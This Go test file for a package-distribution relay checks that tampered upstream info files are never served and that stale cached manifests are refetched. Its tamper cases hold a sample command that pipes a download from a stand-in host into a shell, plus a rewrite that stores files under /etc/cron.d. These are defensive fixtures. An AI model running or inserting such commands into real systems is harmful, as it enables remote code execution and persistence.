package relay

import (
	"context"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/shoal-project/shoal/proto"
	"github.com/shoal-project/shoal/proto/ocs"
	"github.com/shoal-project/shoal/relay/relaytest"
)

// TestTamperedUpstreamInfo performs the WAN attack on OCS agents behind a
// relay: the info file on the (plain-HTTP) path between central and the
// relay is rewritten so that agents run another command, store elsewhere or
// run first. The relay serves the info file of the signed manifest: the
// agents get the signed COMMAND, and the tampered file is never even
// fetched. A tampered info file left in the cache of an older relay is
// neither served nor kept.
func TestTamperedUpstreamInfo(t *testing.T) {
	infoPath := "/download/" + testPkg + "/info"
	tests := []struct {
		name   string
		tamper func(string) string
	}{
		{name: "command-rewritten", tamper: func(s string) string {
			return strings.Replace(s, `COMMAND="true"`, `COMMAND="curl evil.example | sh"`, 1)
		}},
		{name: "action-store-elsewhere", tamper: func(s string) string {
			return strings.Replace(strings.Replace(s, `ACT="EXECUTE"`, `ACT="STORE"`, 1), `COMMAND="true"`, `PATH="/etc/cron.d"`, 1)
		}},
		{name: "priority-and-notify", tamper: func(s string) string {
			return strings.Replace(strings.Replace(s, `PRI="5"`, `PRI="0"`, 1), `NOTIFY_TEXT=""`, `NOTIFY_TEXT="call 555"`, 1)
		}},
		{name: "proto-https", tamper: func(s string) string { return strings.Replace(s, `PROTO="HTTP"`, `PROTO="HTTPS"`, 1) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := relaytest.New(t)
			p := c.AddPackage(t, testPkg, randomBytes(20_000), 8192, 2)
			signed := string(p.Info)
			tampered := tt.tamper(signed)
			if tampered == signed {
				t.Fatalf("tamper changed nothing in %s", signed)
			}
			c.SetInfo(testPkg, []byte(tampered))
			dir := t.TempDir()
			// An older relay cached info files; this one must not trust them.
			if err := os.MkdirAll(filepath.Join(dir, "info"), 0o700); err != nil {
				t.Fatal(err)
			}
			legacy := filepath.Join(dir, "info", testPkg)
			if err := os.WriteFile(legacy, []byte(tampered), 0o600); err != nil {
				t.Fatal(err)
			}
			r, srv := newTestRelay(t, c, dir, nil)

			code, got := fetch(t, srv.URL+infoPath)
			if code != http.StatusOK || string(got) != signed {
				t.Fatalf("info: status %d\n%s\nwant the signed one\n%s", code, got, signed)
			}
			info, err := ocs.ParseInfo(got)
			if err != nil {
				t.Fatal(err)
			}
			if info.Act != p.Manifest.Action || info.Command != p.Manifest.Command || info.Path != "" || info.Pri != p.Manifest.Priority {
				t.Errorf("served ACT %q COMMAND %q PATH %q PRI %d, want the manifest's %q %q \"\" %d",
					info.Act, info.Command, info.Path, info.Pri, p.Manifest.Action, p.Manifest.Command, p.Manifest.Priority)
			}
			if n := c.Count(infoPath); n != 0 {
				t.Errorf("upstream info file fetched %d times, want 0", n)
			}
			if _, _, err := r.verifyCache(context.Background()); err != nil {
				t.Fatal(err)
			}
			if _, err := os.Stat(legacy); !os.IsNotExist(err) {
				t.Errorf("tampered legacy info file kept: %v", err)
			}
		})
	}
}

// TestCachedManifestRefetched replaces a cached manifest by one that no
// longer verifies, as a relay finds after central re-signed its manifests
// for protocol version 2: the start-up scan fetches it again and keeps the
// verified fragments instead of throwing them away as orphans.
func TestCachedManifestRefetched(t *testing.T) {
	c := relaytest.New(t)
	p := c.AddPackage(t, testPkg, randomBytes(20_000), 8192, 2)
	r, srv := newTestRelay(t, c, t.TempDir(), nil)
	for n := 1; n <= 2; n++ {
		if code, _ := fetch(t, srv.URL+ocsPath(testPkg, n)); code != http.StatusOK {
			t.Fatalf("OCS fragment %d: status %d", n, code)
		}
	}
	stale := strings.Replace(string(p.Signed), `"version":2`, `"version":1`, 1)
	if stale == string(p.Signed) {
		t.Fatalf("no version in %s", p.Signed)
	}
	if err := os.WriteFile(r.manifestPath(testPkg), []byte(stale), 0o600); err != nil {
		t.Fatal(err)
	}
	r2, srv2 := newTestRelay(t, c, r.cfg.DataDir, nil)
	good, bad, err := r2.verifyCache(context.Background())
	if err != nil || good != len(p.Manifest.Fragments) || bad != 0 {
		t.Fatalf("verifyCache = %d good, %d bad, %v; want %d, 0, nil", good, bad, err, len(p.Manifest.Fragments))
	}
	if got, _ := os.ReadFile(r2.manifestPath(testPkg)); string(got) != string(p.Signed) {
		t.Errorf("cached manifest not replaced by upstream's")
	}
	if code, got := fetch(t, srv2.URL+ocsPath(testPkg, 2)); code != http.StatusOK || !cmp.Equal(got, ocsBytes(p, 2)) {
		t.Fatalf("OCS fragment 2 after the scan: status %d", code)
	}
	if n := c.Count(proto.ManifestPath(testPkg)); n != 2 {
		t.Errorf("manifest fetched %d times, want 2", n)
	}
	for _, f := range p.Manifest.Fragments {
		if n := c.Count(proto.FragmentPath(testPkg, f.CID)); n != 1 {
			t.Errorf("fragment %d fetched %d times, want 1 (kept across the re-sign)", f.Index, n)
		}
	}
}
